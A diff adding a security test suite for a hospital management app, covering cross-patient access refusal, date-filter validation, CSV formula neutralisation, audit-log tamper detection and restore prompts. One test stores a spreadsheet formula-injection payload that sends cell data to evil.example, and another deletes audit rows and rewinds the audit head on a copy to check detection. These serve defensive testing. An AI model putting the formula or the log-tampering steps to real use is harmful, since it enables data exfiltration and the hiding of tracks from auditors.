@@ -1,0 +1,267 @@
+"""Probes of the running production build for issue 11 items 7, 9, 14, 15 and 27: what an
+attacker or a careless client does, and what the server and its audit trail answer.
+
+- 7: a database writer cuts the audit trail's tail and moves its head back: `hms audit verify`
+  (on a copy of the server's data, so the shared server's trail stays whole) names the cut.
+- 9: a signed-in patient's tab asks for another patient's appointment by id: refused, and the
+  refusal is on the audit trail.
+- 14: a supplier typed as a spreadsheet formula comes back neutralised in the finance export.
+- 15: a year-9999 date sent to the finance filter gets a field message, never a traceback.
+- 27: `hms restore` from a script without --yes says what to do instead of an EOFError.
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import os
+import shutil
+import subprocess
+import threading
+import time
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import unquote
+
+from sqlalchemy import select
+
+from tests.production_server import PROJECT_ROOT, VENV_BIN, Server, server_db
+from tests.security.attacker import SESSION_COOKIE, STATE, staff_token
+
+SESSION = f"{STATE}.hms_app___state___session____session_state"
+FINANCE = f"{SESSION}.hms_app___state___finance____finance_state"
+
+
+class Tab:
+    """A signed-in tab without a browser: sends events by handler name, collects what comes back."""
+
+    def __init__(self, client, path: str, query: dict[str, str]) -> None:
+        self.client, self.path, self.query = client, path, query
+        self.updates: list[dict] = []
+        self.lock = threading.Lock()
+
+    def router_data(self) -> dict:
+        query = "&".join(f"{k}={v}" for k, v in self.query.items())
+        return {
+            "pathname": self.path,
+            "asPath": self.path + (f"?{query}" if query else ""),
+            "query": self.query,
+        }
+
+    def send(self, handler: str, **payload) -> list[dict]:
+        """Call ``handler`` (its full name) and wait until the server has finished answering."""
+        with self.lock:
+            start = len(self.updates)
+        self.client.emit(
+            "event",
+            {"name": handler, "payload": payload, "router_data": self.router_data()},
+            namespace="/_event",
+        )
+        return self.wait(start)
+
+    def wait(self, start: int = 0, quiet: float = 1.5, limit: float = 30) -> list[dict]:
+        deadline, last_count, last_change = time.monotonic() + limit, -1, time.monotonic()
+        while time.monotonic() < deadline:
+            with self.lock:
+                count = len(self.updates)
+                final = any(u.get("final") for u in self.updates[start:])
+            if count != last_count:
+                last_count, last_change = count, time.monotonic()
+            if final and time.monotonic() - last_change > quiet:
+                break
+            time.sleep(0.05)
+        with self.lock:
+            return list(self.updates[start:])
+
+
+@contextlib.contextmanager
+def tab(server: Server, username: str, path: str, query: dict[str, str] | None = None) -> Iterator[Tab]:
+    import socketio
+
+    client = socketio.Client(reconnection=False)
+    opened = Tab(client, path, query or {})
+
+    def collect(update: dict) -> None:
+        with opened.lock:
+            opened.updates.append(update)
+
+    client.on("event", collect, namespace="/_event")
+    client.connect(
+        f"{server.url}?token={uuid.uuid4()}",
+        socketio_path="/_event",
+        transports=["websocket"],
+        namespaces=["/_event"],
+        headers={"Cookie": f"{SESSION_COOKIE}={staff_token(server, username)}"},
+        auth={
+            "event": {
+                "name": f"{STATE}.hydrate_and_load",
+                "payload": {"vars": {}},
+                "router_data": opened.router_data(),
+            }
+        },
+        wait_timeout=30,
+    )
+    try:
+        opened.wait()
+        yield opened
+    finally:
+        client.disconnect()
+
+
+def _deltas(updates: list[dict], state: str) -> dict:
+    merged: dict = {}
+    for update in updates:
+        merged.update((update.get("delta") or {}).get(state, {}))
+    return merged
+
+
+def _event_payloads(updates: list[dict]) -> list[dict]:
+    return [event for update in updates for event in update.get("events", [])]
+
+
+# --------------------------------------------------------------------------- 9
+
+
+def test_a_patient_asking_for_another_patients_appointment_is_refused_on_the_record(hms_server: Server):
+    from hms_app.models.scheduling import Appointment
+    from hms_app.models.security import AppUser, AuditEvent
+
+    with server_db(hms_server) as session:
+        mine = session.execute(select(AppUser.patient_id).where(AppUser.username == "patient")).scalar_one()
+        theirs = session.execute(
+            select(Appointment.id).where(Appointment.patient_id != mine).order_by(Appointment.id).limit(1)
+        ).scalar_one()
+    with tab(hms_server, "patient", "/portal/book", {"move": str(theirs)}):
+        pass
+    with server_db(hms_server) as session:
+        refusals = session.execute(
+            select(AuditEvent.detail, AuditEvent.outcome).where(
+                AuditEvent.action == "access.refused", AuditEvent.username == "patient"
+            )
+        ).all()
+    assert any(f"appointment_id={theirs}" in detail and outcome == "denied" for detail, outcome in refusals)
+
+
+# --------------------------------------------------------------------------- 14 and 15
+
+
+def _finance_filters(start: str, end: str) -> dict:
+    return {"start": start, "end": end, "department": "all", "as_of": ""}
+
+
+def test_a_year_9999_filter_gets_a_field_message_and_no_traceback(hms_server: Server):
+    log_before = hms_server.log.read_text(errors="replace").count("OverflowError")
+    with tab(hms_server, "manager", "/finance") as manager:
+        updates = manager.send(f"{FINANCE}.apply", form=_finance_filters("2026-01-01", "9999-12-31"))
+    finance = _deltas(updates, FINANCE)
+    assert "between 1900 and 2199" in finance.get("filter_error_rx_state_", "")
+    time.sleep(0.5)
+    assert hms_server.log.read_text(errors="replace").count("OverflowError") == log_before
+
+
+def test_a_supplier_typed_as_a_formula_is_exported_as_text(hms_server: Server):
+    from hms_app.services.billing import expenses
+    from hms_app.services.permissions import SYSTEM_ACTOR
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Medline")'
+    with server_db(hms_server) as session:
+        expenses.record_expense(
+            session,
+            actor=SYSTEM_ACTOR,
+            data={
+                "category": "supplies",
+                "department_id": "",
+                "supplier": formula,
+                "description": "Gloves",
+                "amount": "12.00",
+                "incurred_on": time.strftime("%Y-%m-%d"),
+            },
+        )
+    with tab(hms_server, "manager", "/finance") as manager:
+        loaded = _deltas(manager.wait(), FINANCE)
+        if not loaded.get("expenses_by_category_rx_state_"):
+            loaded = _deltas(manager.send(f"{FINANCE}.load"), FINANCE)
+        rows = loaded["expenses_by_category_rx_state_"]
+        index = next(i for i, row in enumerate(rows) if str(row.get("key")) == "supplies")
+        manager.send(
+            f"{FINANCE}.drill",
+            figure="expenses_by_category",
+            points=[{"pointNumber": index, "curveNumber": 0}],
+        )
+        events = _event_payloads(manager.send(f"{FINANCE}.export_drill"))
+    downloads = [e for e in events if "download" in e.get("name", "")]
+    assert downloads, events
+    url = downloads[0]["payload"]["url"]
+    text = (
+        base64.b64decode(url.split(",", 1)[1]).decode()
+        if ";base64," in url
+        else unquote(url.split(",", 1)[1])
+    )
+    assert "'" + formula.replace('"', '""') in text or "'" + formula in text
+    assert "\n" + formula not in text and "," + formula not in text
+
+
+# --------------------------------------------------------------------------- 7 and 27
+
+
+def _copy_of(server: Server, into: Path) -> dict[str, str]:
+    """The server's data directory copied (audit key and checkpoints first, then a consistent copy
+    of the database, so the copy holds every row a checkpoint names) and an environment pointing
+    at the copy: tampering never touches the shared server."""
+    import sqlite3
+
+    for name in ("audit.key", "audit-checkpoints.log", "secret.key"):
+        if (server.data_dir / name).exists():
+            shutil.copy2(server.data_dir / name, into / name)
+    with (
+        contextlib.closing(sqlite3.connect(server.data_dir / "hms.db")) as source,
+        contextlib.closing(sqlite3.connect(into / "hms.db")) as target,
+    ):
+        source.backup(target)
+    env = server.env()
+    env["HMS_DATA_DIR"] = str(into)
+    env.pop("HMS_AUDIT_CHECKPOINT_FILE", None)
+    return env
+
+
+def _hms(env: dict[str, str], *args: str, stdin=None) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [str(VENV_BIN / "hms"), *args],
+        cwd=PROJECT_ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        stdin=stdin,
+    )
+
+
+def test_a_cut_tail_with_the_head_moved_back_is_caught_by_hms_audit_verify(
+    hms_server: Server, tmp_path: Path
+):
+    import sqlite3
+
+    env = _copy_of(hms_server, tmp_path)
+    sealed = _hms(env, "audit", "verify")  # seals what waits, then checks: the copy is intact
+    assert sealed.returncode == 0, sealed.stdout + sealed.stderr
+    with contextlib.closing(sqlite3.connect(tmp_path / "hms.db")) as db, db:
+        last = db.execute("SELECT max(seq) FROM audit_event").fetchone()[0]
+        keep = last - 3
+        seal = db.execute("SELECT hash FROM audit_event WHERE seq = ?", (keep,)).fetchone()[0]
+        db.execute("DELETE FROM audit_event WHERE seq > ?", (keep,))
+        db.execute("UPDATE audit_head SET seq = ?, hash = ?", (keep, seal))
+    tampered = _hms(env, "audit", "verify")
+    assert tampered.returncode == 1
+    assert f"rows {keep + 1} to {last} are gone" in tampered.stdout
+
+
+def test_restore_from_a_script_without_yes_explains_itself(hms_server: Server, tmp_path: Path):
+    env = _copy_of(hms_server, tmp_path)
+    backup = tmp_path / "copy.backup.gz"
+    made = _hms(env, "backup", str(backup))
+    assert made.returncode == 0, made.stderr
+    with open(os.devnull) as no_terminal:
+        answer = _hms(env, "restore", str(backup), stdin=no_terminal)
+    assert answer.returncode == 2
+    assert "Pass --yes" in answer.stderr and "Traceback" not in answer.stderr + answer.stdout
